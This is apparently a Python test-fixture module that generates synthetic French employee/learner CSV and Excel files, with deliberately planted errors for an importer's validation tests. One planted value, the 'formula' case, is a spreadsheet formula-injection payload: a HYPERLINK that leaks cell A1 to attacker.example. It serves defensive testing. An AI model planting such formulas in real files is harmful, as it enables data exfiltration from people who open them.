"""Real learner population files (CSV and Excel) for tests, benchmarks and browser journeys.

The same seed always gives the same people: French names with accents, unique e-mails such as
`helene.lefevre.00042@client.example`, employee ids such as `M000042`, a few sites and jobs.
Data row `i` (1-based) sits on line `i + 1` of the file, under the header line.

`errors` plants known mistakes, keyed by data row index, for the refusal paths:
"bad_email", "missing_email", "missing_last_name", "missing_first_name", "formula",
"too_long", "duplicate_email" and "duplicate_employee_id" (both copy row 1's value, so the
error names line 2).
"""

from __future__ import annotations

import csv
import io
import random
import unicodedata
from collections.abc import Iterator

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

HEADER = ("Nom", "Prénom", "E-mail", "Matricule", "Site", "Poste", "Manager")
DOMAIN = "client.example"
SEED = 20250301

LAST_NAMES = (
    "Martin", "Bernard", "Dubois", "Thomas", "Robert", "Richard", "Petit", "Durand", "Lefèvre",
    "Leroy", "Moreau", "Simon", "Laurent", "Michel", "Garcia", "Roux", "Fournier", "Girard",
    "Bonnet", "Dupré", "Lambert", "Fontaine", "Rousseau", "Vincent", "Müller", "Chevalier",
    "François", "Le Gall", "Bérard", "Gauthier", "Perrin", "Mercier", "Barbé", "Boël",
    "Chénier", "Noël", "Desprès", "Lemaître", "Béranger", "D'Aubigné",
)  # fmt: skip
FIRST_NAMES = (
    "Hélène", "Élodie", "Zoé", "Chloé", "Gaëlle", "Léa", "Camille", "Maëlys", "Inès", "Océane",
    "Noémie", "Amélie", "Françoise", "Agnès", "Jérôme", "François", "Stéphane", "Noël",
    "Benoît", "Loïc", "Hervé", "Mathéo", "Théo", "Raphaël", "Joël", "Gaël", "Jean-Pierre",
    "Marie-Thérèse", "Émile", "Anaïs",
)  # fmt: skip
SITES = ("Lyon", "Grenoble", "Saint-Étienne", "Villeurbanne", "Annecy", "Clermont-Ferrand")
JOBS = (
    "Opérateur de production",
    "Technicienne qualité",
    "Cariste",
    "Chef d'équipe",
    "Responsable maintenance",
    "Préparatrice de commandes",
    "Ingénieur méthodes",
    "Agent de maîtrise, équipe de nuit",  # holds a "," that the writer quotes
)
MANAGERS = (
    "Sophie Lefèvre",
    "Bruno Mégret",
    "c.dupre@client.example",
    "Aurélie Chassé",
    "",
)
ERROR_KINDS = (
    "bad_email",
    "missing_email",
    "missing_last_name",
    "missing_first_name",
    "formula",
    "too_long",
    "duplicate_email",
    "duplicate_employee_id",
)


def population_csv(
    n: int,
    *,
    delimiter: str = ";",
    encoding: str = "utf-8-sig",
    errors: dict[int, str] | None = None,
) -> bytes:
    """A CSV of `n` learners as French Excel writes it (";" and a BOM by default)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(HEADER)
    writer.writerows(population_rows(n, errors=errors))
    return buffer.getvalue().encode(encoding)


def population_xlsx(n: int, *, errors: dict[int, str] | None = None) -> bytes:
    """An Excel workbook of `n` learners, on its first sheet."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Apprenants")
    sheet.append(HEADER)
    for row in population_rows(n, errors=errors):
        sheet.append([_as_text(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _as_text(sheet: object, value: str) -> str | WriteOnlyCell:
    """Text as typed, even "=…": openpyxl would otherwise store it as a live formula."""
    if not value.startswith("="):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell


def population_rows(n: int, *, errors: dict[int, str] | None = None) -> Iterator[list[str]]:
    """The data rows, in HEADER order; row `i` (1-based) is line `i + 1` of a file."""
    errors = errors or {}
    unknown = set(errors.values()) - set(ERROR_KINDS)
    if unknown:
        raise ValueError(f"Unknown error kinds {sorted(unknown)}; known: {ERROR_KINDS}")
    chance = random.Random(SEED)
    first_row: list[str] = []
    for index in range(1, n + 1):
        last, first = chance.choice(LAST_NAMES), chance.choice(FIRST_NAMES)
        row = [
            last,
            first,
            f"{_slug(first)}.{_slug(last)}.{index:05d}@{DOMAIN}",
            f"M{index:06d}",
            chance.choice(SITES),
            chance.choice(JOBS),
            chance.choice(MANAGERS),
        ]
        first_row = first_row or list(row)
        if index in errors:
            _plant(errors[index], row, first_row)
        yield row


def _plant(kind: str, row: list[str], first_row: list[str]) -> None:
    if kind == "bad_email":
        row[2] = row[2].replace("@", " chez ")
    elif kind == "missing_email":
        row[2] = ""
    elif kind == "missing_last_name":
        row[0] = ""
    elif kind == "missing_first_name":
        row[1] = ""
    elif kind == "formula":
        row[5] = '=HYPERLINK("http://attacker.example/?leak="&A1,"Cliquez ici")'
    elif kind == "too_long":
        row[4] = "Saint-Étienne " * 20
    elif kind == "duplicate_email":
        row[2] = first_row[2]
    elif kind == "duplicate_employee_id":
        row[3] = first_row[3]


def _slug(name: str) -> str:
    """hélène → helene, Le Gall → le-gall, D'Aubigné → d-aubigne."""
    ascii_name = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode()
    return "-".join("".join(c if c.isalnum() else " " for c in ascii_name.lower()).split())
